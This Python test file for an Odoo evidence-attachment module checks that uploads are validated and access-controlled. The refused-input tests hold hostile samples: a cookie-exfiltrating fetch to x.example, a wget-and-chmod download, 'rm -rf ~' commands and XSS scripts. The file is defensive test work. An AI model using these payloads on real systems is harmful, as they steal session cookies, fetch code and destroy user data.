import base64
import io
import zipfile

import openpyxl

from odoo import Command
from odoo.exceptions import UserError, ValidationError
from odoo.tests import new_test_user

from .common import CchcCase

LINE = "cchc.evaluation.line"
EVALUATION = "cchc.evaluation"
PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n"
PNG = (
    b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02"
    b"\x00\x00\x00\x90wS\xde\x00\x00\x00\x0cIDATx\x9cc```\x00\x00\x00\x04\x00\x01"
    b"\xf6\x178U\x00\x00\x00\x00IEND\xaeB`\x82"
)
BOM = b"\xef\xbb\xbf"
# AccessError and ValidationError are UserErrors: any refusal.
REFUSED = UserError


def zip_of(members):
    with io.BytesIO() as buffer:
        with zipfile.ZipFile(buffer, "w") as archive:
            for name, content in members.items():
                archive.writestr(name, content)
        return buffer.getvalue()


DOCX = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"}


def xlsx():
    with io.BytesIO() as buffer:
        openpyxl.Workbook().save(buffer)
        return buffer.getvalue()


class EvidenceCase(CchcCase):
    def _vals(self, line, name="decision.pdf", raw=PDF, **vals):
        return {
            "name": name,
            "datas": base64.b64encode(raw),
            "res_model": line._name,
            "res_id": line.id,
            **vals,
        }

    def _attach(self, user, line, name="decision.pdf", raw=PDF, **vals):
        return (
            self.env["ir.attachment"]
            .with_user(user)
            .create(self._vals(line, name, raw, **vals))
        )

    def _planted(self, creator, model, res_id, name="planted.pdf"):
        """A file left by the holes this module closes: attached by the system,
        then given to its creator as the hole did."""
        attachment = self.env["ir.attachment"].create(
            {
                "name": name,
                "datas": base64.b64encode(PDF),
                "res_model": model,
                "res_id": res_id,
            }
        )
        self.env.cr.execute(
            "UPDATE ir_attachment SET create_uid = %s WHERE id = %s",
            (creator.id, attachment.id),
        )
        attachment.invalidate_recordset(["create_uid"])
        return attachment


class TestEvidenceFiles(EvidenceCase):
    """Evidence files: their content, their fields, and the record they are on."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.campaign = cls._make_campaign(cls.agency_stp | cls.agency_snv)
        cls.campaign.action_open_self_assessment()
        by_unit = {e.agency_id: e for e in cls.campaign.evaluation_ids}
        cls.evaluation, cls.other = by_unit[cls.agency_stp], by_unit[cls.agency_snv]
        cls.line = cls.evaluation.line_ids[0]
        cls.other_line = cls.other.line_ids[0]
        cls.officer_snv = new_test_user(
            cls.env,
            login="t_officer_snv",
            groups="base.group_user,cchc_index.group_cchc_officer",
            cchc_agency_id=cls.agency_snv.id,
        )
        head_snv = new_test_user(
            cls.env,
            login="t_head_snv",
            groups="base.group_user,cchc_index.group_cchc_head",
            cchc_agency_id=cls.agency_snv.id,
        )
        cls._score_all(cls.other.line_ids)
        cls._add_participants(cls.other)
        cls.other.with_user(head_snv).action_submit()

    def test_refused_content(self):
        docx_exe = zip_of({**DOCX, "word/embeddings/setup.exe": b"MZ\x90\x00"})
        docx_hidden = zip_of({**DOCX, "word/media/image1.png": b"MZ\x90\x00\x03"})
        for name, raw in [
            ("letter.doc", b" <html><body><script>alert(1)</script></body></html>"),
            ("letter.doc", BOM + b"<html><script>alert(1)</script></html>"),
            ("letter.doc", b"\r\n\t<!DOCTYPE html><p onclick='x()'>"),
            (
                "notes.txt",
                b"var c = document.cookie;\nfetch('https://x.example/' + c);\n",
            ),
            ("notes.txt", b"(function () { alert(1) })();\n"),
            ("notes.txt", b"import os\nos.system('rm -rf ~')\n"),
            ("notes.txt", b"cd /tmp\nwget http://x.example/x\nchmod +x x\n"),
            ("notes.txt", BOM + b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
            ("figures.csv", b"a,b\n1,2\n<script>alert(1)</script>\n"),
            ("report.pdf", BOM + b'<svg xmlns="http://www.w3.org/2000/svg"></svg>'),
            ("report.pdf", b"Hello, I am not a PDF"),
            ("scan.png", PDF),
            ("empty.pdf", b""),
            ("report.docx", docx_exe),
            ("report.docx", docx_hidden),
            ("report.docx", zip_of({"decision.pdf": PDF})),
            ("report.docx", b"<html>" + zip_of(DOCX)),
            ("report.xlsx", zip_of(DOCX)),
            ("table.ods", xlsx()),
        ]:
            with self.subTest(name=name, raw=raw[:30]):
                with self.assertRaises(ValidationError) as cm:
                    self._attach(self.officer, self.line, name, raw)
                self.assertIn(name, str(cm.exception))
                self.assertIn("evidence", str(cm.exception))
        self.assertFalse(self.line.evidence_ids)

    def test_allowed_content(self):
        files = [
            ("decision.pdf", PDF, "application/pdf"),
            ("photo.PNG", PNG, "image/png"),
            ("figures.csv", b"done,total\n37,40\n", None),
            ("bao_cao.txt", "Báo cáo số 12/BC-STP ngày 5/3.\n".encode(), "text/plain"),
            (
                "report.docx",
                zip_of(DOCX),
                "application/vnd.openxmlformats-officedocument."
                "wordprocessingml.document",
            ),
            (
                "table.xlsx",
                xlsx(),
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            ),
            (
                "minutes.odt",
                zip_of(
                    {
                        "mimetype": "application/vnd.oasis.opendocument.text",
                        "content.xml": "<office:document-content/>",
                    }
                ),
                "application/vnd.oasis.opendocument.text",
            ),
        ]
        for name, raw, mimetype in files:
            attachment = self._attach(self.officer, self.line, name, raw)
            if mimetype:
                self.assertEqual(attachment.mimetype, mimetype)
        self.assertEqual(len(self.line.evidence_ids), len(files))

    def test_declared_type_is_the_content(self):
        for declared in ("text/javascript", "text/html", "image/png"):
            with self.assertRaises(ValidationError) as cm:
                self._attach(self.officer, self.line, mimetype=declared)
            self.assertIn(declared, str(cm.exception))
        attachment = self._attach(self.officer, self.line, mimetype="application/pdf")
        self.assertEqual(attachment.mimetype, "application/pdf")
        with self.assertRaises(ValidationError):
            attachment.with_user(self.officer).mimetype = "text/javascript"

    def test_stored_files_only(self):
        Attachment = self.env["ir.attachment"].with_user(self.officer)
        attachment = self._attach(self.officer, self.line)
        attempts = [
            lambda: self._attach(
                self.officer, self.line, type="url", url="https://x.example"
            ),
            lambda: Attachment.create(
                {
                    "name": "link.pdf",
                    "type": "url",
                    "url": "https://x.example",
                    "res_model": LINE,
                    "res_id": self.line.id,
                }
            ),
            lambda: self._attach(self.officer, self.line, public=True),
            lambda: Attachment.with_context(default_public=True).create(
                self._vals(self.line)
            ),
            lambda: Attachment.create(
                {
                    "name": "raw.pdf",
                    "db_datas": b"#!/bin/sh\nrm -rf ~\n",
                    "res_model": LINE,
                    "res_id": self.line.id,
                }
            ),
            lambda: attachment.with_user(self.officer).write({"type": "url"}),
            lambda: attachment.with_user(self.officer).write(
                {"url": "https://x.example"}
            ),
            lambda: attachment.with_user(self.officer).write({"public": True}),
            lambda: attachment.with_user(self.officer).write(
                {"db_datas": b"x" * (25 * 1024 * 1024)}
            ),
            lambda: attachment.with_user(self.officer).write(
                {"db_datas": b"echo pwned\n"}
            ),
            lambda: attachment.with_user(self.officer).write(
                {"store_fname": "ab/abcdef"}
            ),
            lambda: attachment.with_user(self.officer).write({"res_field": "x"}),
        ]
        for attempt in attempts:
            with self.assertRaises(REFUSED):
                attempt()
        self.assertEqual(attachment.raw, PDF)
        self.assertEqual(
            (attachment.type, attachment.url, attachment.public),
            ("binary", False, False),
        )
        self.assertEqual(len(self.line.evidence_ids), 1)

    def test_file_names(self):
        attachment = self._attach(self.officer, self.line)
        for name in ("a" * (1024 * 1024) + ".pdf", "a" * 252 + ".pdf", "x\r\n.pdf"):
            with self.assertRaises(ValidationError) as cm:
                self._attach(self.officer, self.line, name)
            self.assertIn("at most 255 characters", str(cm.exception))
            with self.assertRaises(ValidationError):
                attachment.with_user(self.officer).name = name
        self._attach(self.officer, self.line, "a" * 251 + ".pdf")
        attachment.with_user(self.officer).name = "renamed.pdf"
        self.assertEqual(attachment.name, "renamed.pdf")

    def test_no_file_without_its_record(self):
        for user in (self.outsider, self.officer):
            for res_id in (0, self.line.id + 10**6):
                with self.assertRaises(ValidationError) as cm:
                    self._attach(user, self.env[LINE].browse(res_id))
                self.assertIn("existing record", str(cm.exception))

    def test_moving_a_file_checks_both_records(self):
        own = self._attach(self.officer, self.line).with_user(self.officer)
        # Onto another unit's line, open or submitted, or off its line.
        for vals in (
            {"res_id": self.other_line.id},
            {"res_id": 0},
            {"res_model": EVALUATION, "res_id": self.other.id},
        ):
            with self.assertRaises(REFUSED):
                own.write(vals)
        self.assertEqual((own.res_model, own.res_id), (LINE, self.line.id))
        # The other unit cannot take it, nor give its own files.
        with self.assertRaises(REFUSED):
            own.with_user(self.officer_snv).write({"res_id": self.other_line.id})
        # Copies are new files on their record.
        with self.assertRaises(REFUSED):
            own.copy({"res_id": self.other_line.id})
        copy = own.copy({"res_id": self.evaluation.line_ids[1].id})
        self.assertEqual(copy.raw, PDF)
        # Within its own open evaluation, a file may move.
        own.write({"res_id": self.evaluation.line_ids[2].id})
        own.write({"res_model": EVALUATION, "res_id": self.evaluation.id})
        self.assertEqual((own.res_model, own.res_id), (EVALUATION, self.evaluation.id))

    def test_planted_file_cannot_be_moved_onto_a_record(self):
        for creator in (self.outsider, self.officer):
            planted = self._planted(creator, LINE, 0).with_user(creator)
            for res_id in (self.other_line.id, self.line.id):
                with self.assertRaises(REFUSED):
                    planted.write({"res_id": res_id})
            self.assertFalse(planted.res_id)
            planted.unlink()
            self.assertFalse(planted.exists())

    def test_misplaced_files_can_be_deleted(self):
        """Files a hole put where they do not belong: on no record (deleted by
        their creator or the Reform Index administrator), or on another unit's
        line or evaluation, even submitted (by the administrator); by nobody
        else."""
        orphan = self._planted(self.outsider, LINE, 0)
        deleted_line = self._planted(self.outsider, LINE, self.line.id + 10**6)
        on_submitted = self._planted(self.officer, LINE, self.other_line.id)
        on_evaluation = self._planted(self.outsider, EVALUATION, self.other.id)
        for attachment in (orphan, deleted_line, on_submitted, on_evaluation):
            for user in (self.officer_snv, self.secretariat):
                with self.assertRaises(REFUSED):
                    attachment.with_user(user).unlink()
        for attachment, creator in (
            (on_submitted, self.officer),
            (on_evaluation, self.outsider),
        ):
            with self.assertRaises(REFUSED):
                attachment.with_user(creator).unlink()
        # Not misplaced: the unit's own file on its submitted line stays.
        own = self.env["ir.attachment"].create(self._vals(self.other_line))
        for user in (self.officer_snv, self.manager, self.secretariat):
            with self.assertRaises(REFUSED):
                own.with_user(user).unlink()
        orphan.with_user(self.outsider).unlink()
        (deleted_line | on_submitted | on_evaluation).with_user(self.manager).unlink()
        self.assertFalse(
            (orphan | deleted_line | on_submitted | on_evaluation).exists()
        )
        self.assertTrue(own.exists())

    def test_moving_the_file_storage_rewrites_locked_files(self):
        """Odoo rewrites each file with its own content when the storage moves
        (database to filestore): that is no change, even after submission."""
        own = self.env["ir.attachment"].create(self._vals(self.other_line))
        own.with_user(self.manager).write({"raw": own.raw, "mimetype": own.mimetype})
        with self.assertRaises(REFUSED):
            own.with_user(self.manager).write({"raw": PDF + b"%"})
        self.assertEqual(own.raw, PDF)

    def test_evaluation_files_follow_the_evaluation(self):
        files = self.env["ir.attachment"].with_user(self.officer)
        own = files.create(self._vals(self.evaluation, "minutes.pdf"))
        with self.assertRaises(ValidationError):
            files.create(self._vals(self.evaluation, "page.pdf", b" <html></html>"))
        with self.assertRaises(ValidationError):
            files.create(self._vals(self.evaluation, "setup.exe", b"MZ\x90\x00"))
        for user in (self.secretariat, self.officer_snv, self.outsider):
            with self.assertRaises(REFUSED):
                self._attach(user, self.evaluation, "minutes.pdf")
            with self.assertRaises(REFUSED):
                own.with_user(user).unlink()
        # Submitted: nobody adds, renames or deletes, chatter uploads included
        # (they run as superuser on behalf of the user).
        other_file = self.env["ir.attachment"].create(self._vals(self.other))
        for user in (self.officer_snv, self.secretariat, self.manager):
            with self.assertRaises(REFUSED):
                files.with_user(user).sudo().create(self._vals(self.other))
            with self.assertRaises(REFUSED):
                other_file.with_user(user).name = "renamed.pdf"
            with self.assertRaises(REFUSED):
                other_file.with_user(user).unlink()
        own.unlink()
        self.assertEqual(other_file.name, "decision.pdf")


class TestEvidenceExplanation(EvidenceCase):
    """During an explanation round the unit adds evidence to the items asked
    about, and changes nothing it submitted."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        appraisers = cls._make_appraisers()
        cls.campaign = cls._make_campaign(cls.agency_stp)
        cls.campaign.action_open_self_assessment()
        cls.evaluation = cls.campaign.evaluation_ids
        cls.asked, cls.other = cls.evaluation.line_ids.filtered(
            lambda x: x.code.startswith("2.") and not x.is_na
        )[:2]
        cls.submitted = cls.env["ir.attachment"].create(
            [
                {
                    "name": f"{line.code}.pdf",
                    "datas": base64.b64encode(PDF),
                    "res_model": LINE,
                    "res_id": line.id,
                }
                for line in cls.asked | cls.other
            ]
        )
        cls._score_all(cls.evaluation.line_ids)
        cls._add_participants(cls.evaluation)
        cls.evaluation.with_user(cls.head).action_submit()
        cls.campaign.action_start_appraisal()
        appraisal = cls.evaluation.appraisal_ids.filtered(
            lambda a: a.agency_id == cls.agency_stp
        )
        appraisal.with_user(appraisers["STP"])._request_explanation(
            cls.asked, "Đề nghị bổ sung văn bản"
        )

    def test_only_add_to_the_items_asked_about(self):
        self.assertEqual(self.evaluation.state, "explanation")
        added = self._attach(self.officer, self.asked, "bo-sung.pdf")
        self.assertIn(added, self.asked.evidence_ids)
        with self.assertRaises(REFUSED):
            self._attach(self.officer, self.other, "bo-sung.pdf")
        with self.assertRaises(REFUSED):
            self._attach(self.outsider, self.asked, "bo-sung.pdf")
        on_asked = self.submitted.filtered(lambda a: a.res_id == self.asked.id)
        for attempt in (
            lambda a: a.write({"name": "renamed.pdf"}),
            lambda a: a.write({"datas": base64.b64encode(PDF + b"%")}),
            lambda a: a.write({"description": "Số 15/BC-STP"}),
            lambda a: a.write({"res_id": self.other.id}),
            lambda a: a.unlink(),
        ):
            for attachment in self.submitted:
                with self.assertRaises(UserError):
                    attempt(attachment.with_user(self.officer))
        with self.assertRaisesRegex(UserError, "only be added"):
            on_asked.with_user(self.officer).unlink()
        # The line's form replaces files by unlinking them: refused too.
        with self.assertRaises(UserError):
            self.asked.with_user(self.officer).write(
                {"evidence_ids": [Command.unlink(on_asked.id)]}
            )
        self.assertEqual(self.submitted.exists(), self.submitted)
        self.assertEqual(
            self.submitted.mapped("name"),
            [f"{x.code}.pdf" for x in self.asked | self.other],
        )
